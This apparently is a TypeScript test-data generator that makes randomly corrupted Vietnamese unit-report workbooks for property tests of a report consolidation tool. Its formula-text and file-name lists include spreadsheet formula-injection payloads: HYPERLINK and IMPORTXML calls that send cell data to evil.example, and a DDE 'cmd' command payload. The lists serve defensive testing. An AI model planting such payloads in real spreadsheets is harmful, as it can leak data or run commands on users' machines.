/**
 * Noisy unit workbooks for the property tests: a unit's filled template as grids, then what
 * units and attackers do to it (text in counts, formulas typed as text, error values, NFD,
 * inserted columns and blank rows, repeated and total rows, hidden rows and sheets, renamed and
 * copied sheets, hostile file names). tests/hostile-oracle.ts says which values a reader must
 * account for.
 */
import fc from "fast-check";
import type { CellValue, WorkbookGrids } from "../src/core/grid";
import { parsePeriod } from "../src/core/programme/period";
import type { Unit } from "../src/core/programme/schema";
import { unitsExpectedIn } from "../src/core/programme/units";
import { FIRST_DATA_ROW, HEADER_ROW, INFO_FIELDS, INFO_FIRST_ROW, TASK_COLUMNS } from "../src/core/template/layout";
import { sourceGrids, unitSource } from "./golden/cases";
import { bundle } from "./helpers/build";
import { roleOf } from "./hostile-oracle";

export const PERIOD = "2025-Y";
export const period = parsePeriod(PERIOD, bundle.periods);

const expected = unitsExpectedIn(bundle.units, period);
/** A few units of each level: department templates hold every kind of indicator, commune ones fewer. */
export const UNITS: readonly Unit[] = [
  ...expected.filter((u) => u.level === "tinh").slice(0, 4),
  ...expected.filter((u) => u.level !== "tinh").slice(0, 2),
];

const base = new Map<string, WorkbookGrids>();

/** The unit's plausibly filled template as grids (built once per unit). */
function baseGrids(unit: Unit): WorkbookGrids {
  let g = base.get(unit.code);
  if (!g) base.set(unit.code, (g = sourceGrids(unitSource(bundle, PERIOD, { unit: unit.code, seed: 7, edits: [] }))));
  return g;
}

// ---- what goes into cells ----------------------------------------------------------------

/** Text that a spreadsheet would take for a formula if it were written back as a value. */
export const FORMULA_TEXTS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")',
  "+SUM(1,2)",
  "-2+3",
  "@SUM(A1:A2)",
  "=cmd|' /C calc'!A0",
  "'=quoted",
  '=IMPORTXML("http://evil.example","//a")',
] as const;

const text = fc.oneof(
  fc.constantFrom(...FORMULA_TEXTS),
  fc.constantFrom("2000 hồ sơ", "không", "n/a", "Tổng cộng", "Hoàn thành".normalize("NFD"), "Đạt".normalize("NFD"), "   ", ""),
  fc.string({ maxLength: 12 }),
);

export const valueArb: fc.Arbitrary<CellValue> = fc.oneof(
  { arbitrary: fc.integer({ min: 0, max: 5000 }), weight: 6 },
  { arbitrary: fc.integer({ min: -500, max: -1 }), weight: 1 },
  { arbitrary: fc.double({ min: 0, max: 100, noNaN: true }), weight: 1 },
  { arbitrary: fc.constantFrom("1.250", "12,5", "1 250", "12", "85%", "85,5 %", "0,85", "1.250,5"), weight: 2 },
  { arbitrary: text, weight: 3 },
  { arbitrary: fc.constantFrom<CellValue>({ error: "#DIV/0!" }, { error: "#REF!" }, { error: "#N/A" }, "#VALUE!", true, false), weight: 1 },
  { arbitrary: fc.constantFrom<CellValue>(null, "   "), weight: 2 },
  { arbitrary: fc.constantFrom("9".repeat(40_000), "Giải trình ".repeat(3000)), weight: 1 },
);

const SHEET_NAMES = ["=1+2", "+SUM", "@x", "-1", "Chỉ tiêu".normalize("NFD"), "CT 2025", "Sheet1", "Tổng hợp", "Nguồn số liệu"] as const;
export const FILE_NAMES = [
  "=cmd|' calc'!A0.xlsx",
  "+SUM(1,2).xlsx",
  "@bao-cao.xlsx",
  "-1+1.xlsx",
  `${"Sở Nội vụ".normalize("NFD")}.xlsx`,
  "bao cao (1).xlsx",
  "=HYPERLINK(1).xlsx",
] as const;

type Role = "info" | "tasks" | "indicators";

export type Op =
  | { readonly kind: "value"; readonly row: number; readonly value: CellValue }
  | { readonly kind: "explanation"; readonly row: number; readonly value: CellValue }
  | { readonly kind: "task"; readonly row: number; readonly col: number; readonly value: CellValue }
  | { readonly kind: "info"; readonly field: number; readonly value: CellValue }
  | { readonly kind: "duplicateRow"; readonly row: number; readonly value: CellValue }
  | { readonly kind: "totalRow"; readonly label: string; readonly inFirstColumn: boolean; readonly value: number }
  | { readonly kind: "unknownRow"; readonly label: string; readonly value: CellValue }
  | { readonly kind: "blankRows"; readonly row: number; readonly count: number }
  | { readonly kind: "swapRows"; readonly a: number; readonly b: number }
  | { readonly kind: "insertColumn"; readonly at: number; readonly header: string }
  | { readonly kind: "renameHeader"; readonly key: "value" | "explanation" | "name"; readonly header: string }
  | { readonly kind: "renameSheet"; readonly role: Role; readonly name: string }
  | { readonly kind: "hideSheet"; readonly role: Role }
  | { readonly kind: "junkSheet"; readonly name: string; readonly value: CellValue }
  | { readonly kind: "copyIndicators"; readonly hidden: boolean; readonly row: number; readonly value: CellValue }
  | { readonly kind: "hideRow"; readonly row: number };

const row = fc.nat({ max: 400 });
const role = fc.constantFrom<Role>("info", "tasks", "indicators");
const taskCols = ["status", "completed", "evidence", "note"].map((k) => TASK_COLUMNS.findIndex((c) => c.key === k));

export const opArb: fc.Arbitrary<Op> = fc.oneof(
  { arbitrary: fc.record({ kind: fc.constant("value" as const), row, value: valueArb }), weight: 8 },
  { arbitrary: fc.record({ kind: fc.constant("explanation" as const), row, value: valueArb }), weight: 2 },
  { arbitrary: fc.record({ kind: fc.constant("task" as const), row, col: fc.constantFrom(...taskCols), value: valueArb }), weight: 2 },
  {
    arbitrary: fc.record({ kind: fc.constant("info" as const), field: fc.nat({ max: INFO_FIELDS.length - 1 }), value: valueArb }),
    weight: 1,
  },
  { arbitrary: fc.record({ kind: fc.constant("duplicateRow" as const), row, value: valueArb }), weight: 2 },
  {
    arbitrary: fc.record({
      kind: fc.constant("totalRow" as const),
      label: fc.constantFrom("Tổng cộng", "Cộng", "TỔNG SỐ", "Tổng cộng".normalize("NFD")),
      inFirstColumn: fc.boolean(),
      value: fc.integer({ min: 0, max: 1e6 }),
    }),
    weight: 2,
  },
  { arbitrary: fc.record({ kind: fc.constant("unknownRow" as const), label: text, value: valueArb }), weight: 1 },
  { arbitrary: fc.record({ kind: fc.constant("blankRows" as const), row, count: fc.integer({ min: 1, max: 3 }) }), weight: 1 },
  { arbitrary: fc.record({ kind: fc.constant("swapRows" as const), a: row, b: row }), weight: 1 },
  { arbitrary: fc.record({ kind: fc.constant("insertColumn" as const), at: fc.integer({ min: 1, max: 9 }), header: text }), weight: 1 },
  {
    arbitrary: fc.record({
      kind: fc.constant("renameHeader" as const),
      key: fc.constantFrom("value" as const, "explanation" as const, "name" as const),
      header: fc.constantFrom("Kết quả", "Số liệu năm 2025", "=1+1", "Giải trình".normalize("NFD")),
    }),
    weight: 1,
  },
  { arbitrary: fc.record({ kind: fc.constant("renameSheet" as const), role, name: fc.constantFrom(...SHEET_NAMES) }), weight: 1 },
  { arbitrary: fc.record({ kind: fc.constant("hideSheet" as const), role }), weight: 1 },
  { arbitrary: fc.record({ kind: fc.constant("junkSheet" as const), name: fc.constantFrom(...SHEET_NAMES), value: valueArb }), weight: 1 },
  { arbitrary: fc.record({ kind: fc.constant("copyIndicators" as const), hidden: fc.boolean(), row, value: valueArb }), weight: 1 },
  { arbitrary: fc.record({ kind: fc.constant("hideRow" as const), row }), weight: 2 },
);

export interface ReportPlan {
  readonly unit: number;
  readonly ops: readonly Op[];
  readonly file: number;
  readonly hostileName: boolean;
}

export const reportArb: fc.Arbitrary<ReportPlan> = fc.record({
  unit: fc.nat({ max: UNITS.length - 1 }),
  ops: fc.array(opArb, { maxLength: 10 }),
  file: fc.nat({ max: FILE_NAMES.length - 1 }),
  hostileName: fc.boolean(),
});

// ---- applying the noise --------------------------------------------------------------------

interface MSheet {
  name: string;
  hidden: boolean;
  hiddenRows: Set<number>;
  rows: CellValue[][];
}

const markerRole = (s: MSheet): string | undefined => roleOf(s.rows[0]?.[0]);

function uniqueName(sheets: readonly MSheet[], name: string, self?: MSheet): string {
  const taken = (n: string): boolean => sheets.some((s) => s !== self && s.name.toLowerCase() === n.toLowerCase());
  let out = name;
  for (let i = 2; taken(out); i++) out = `${name} (${i})`;
  return out;
}

function applyOp(sheets: MSheet[], op: Op): void {
  const of = (r: Role): MSheet | undefined => sheets.find((s) => markerRole(s) === r);
  const ind = of("indicators");
  if (!ind) return;
  const keyCol = (s: MSheet, key: string): number => s.rows[0]?.indexOf(key) ?? -1;
  const dataRow = (s: MSheet, n: number): number => FIRST_DATA_ROW + (n % Math.max(1, s.rows.length - FIRST_DATA_ROW));
  const set = (s: MSheet, r: number, c: number, v: CellValue): void => {
    if (c < 0) return;
    const cells = (s.rows[r] ??= []);
    for (let i = cells.length; i < c; i++) cells[i] = null;
    cells[c] = v;
  };
  switch (op.kind) {
    case "value":
    case "explanation":
      return set(ind, dataRow(ind, op.row), keyCol(ind, op.kind), op.value);
    case "task": {
      const t = of("tasks");
      return t ? set(t, dataRow(t, op.row), op.col, op.value) : undefined;
    }
    case "info": {
      const i = of("info");
      return i ? set(i, INFO_FIRST_ROW + op.field, 2, op.value) : undefined;
    }
    case "duplicateRow": {
      const copy = [...(ind.rows[dataRow(ind, op.row)] ?? [])];
      ind.rows.push(copy);
      return set(ind, ind.rows.length - 1, keyCol(ind, "value"), op.value);
    }
    case "totalRow":
    case "unknownRow": {
      ind.rows.push([]);
      const r = ind.rows.length - 1;
      set(ind, r, op.kind === "totalRow" && op.inFirstColumn ? 0 : keyCol(ind, "name"), op.label);
      return set(ind, r, keyCol(ind, "value"), op.value);
    }
    case "blankRows": {
      const at = dataRow(ind, op.row);
      ind.rows.splice(at, 0, ...Array.from({ length: op.count }, () => []));
      ind.hiddenRows = new Set([...ind.hiddenRows].map((r) => (r >= at ? r + op.count : r)));
      return;
    }
    case "swapRows": {
      const [a, b] = [dataRow(ind, op.a), dataRow(ind, op.b)];
      [ind.rows[a], ind.rows[b]] = [ind.rows[b] ?? [], ind.rows[a] ?? []];
      return;
    }
    case "insertColumn":
      ind.rows.forEach((cells, r) => {
        if (cells.length >= op.at) cells.splice(op.at, 0, r === HEADER_ROW ? op.header : null);
      });
      return;
    case "renameHeader":
      return set(ind, HEADER_ROW, keyCol(ind, op.key), op.header);
    case "renameSheet": {
      const s = of(op.role);
      if (s) s.name = uniqueName(sheets, op.name, s);
      return;
    }
    case "hideSheet": {
      const s = of(op.role);
      if (s) s.hidden = true;
      return;
    }
    case "junkSheet":
      sheets.push({ name: uniqueName(sheets, op.name), hidden: false, hiddenRows: new Set(), rows: [[op.value], ["Ghi chú", op.value]] });
      return;
    case "copyIndicators": {
      const copy: MSheet = {
        name: uniqueName(sheets, `${ind.name} (cũ)`),
        hidden: op.hidden,
        hiddenRows: new Set(),
        rows: ind.rows.map((r) => [...r]),
      };
      sheets.push(copy);
      return set(copy, dataRow(copy, op.row), keyCol(copy, "value"), op.value);
    }
    case "hideRow":
      ind.hiddenRows.add(dataRow(ind, op.row));
      return;
  }
}

function deepFreeze<T>(value: T): T {
  if (value !== null && typeof value === "object" && !Object.isFrozen(value)) {
    Object.freeze(value);
    for (const v of Object.values(value)) deepFreeze(v);
  }
  return value;
}

export interface NoisyReport {
  readonly file: string;
  readonly unit: Unit;
  /** Frozen: consolidation must not change a unit's sheets. */
  readonly grids: WorkbookGrids;
}

/** A unit's report with the plan's noise, under its file name. */
export function noisyReport(plan: ReportPlan, index: number): NoisyReport {
  const unit = UNITS[plan.unit];
  if (!unit) throw new Error(`no unit ${plan.unit}`);
  const file = plan.hostileName ? (FILE_NAMES[plan.file] ?? "") : `${unit.code}-${index}.xlsx`;
  const sheets: MSheet[] = baseGrids(unit).sheets.map((s) => ({
    name: s.name,
    hidden: s.hidden ?? false,
    hiddenRows: new Set(s.hiddenRows ?? []),
    rows: s.values.map((r) => [...r]),
  }));
  for (const op of plan.ops) applyOp(sheets, op);
  const grids: WorkbookGrids = {
    file,
    sheets: sheets.map((s) => ({
      name: s.name,
      ...(s.hidden ? { hidden: true } : {}),
      ...(s.hiddenRows.size ? { hiddenRows: [...s.hiddenRows].sort((a, b) => a - b) } : {}),
      values: s.rows.map((r) => Array.from(r, (v) => v ?? null)),
    })),
  };
  return { file, unit, grids: deepFreeze(grids) };
}

/** Distinct file names for a run's reports (hostile names can repeat across reports). */
export function distinctFiles(reports: NoisyReport[]): NoisyReport[] {
  const seen = new Set<string>();
  return reports.map((r, i) => {
    let file = r.file;
    if (seen.has(file)) file = `${i}-${file}`;
    seen.add(file);
    return file === r.file ? r : { ...r, file, grids: deepFreeze({ ...r.grids, file }) };
  });
}
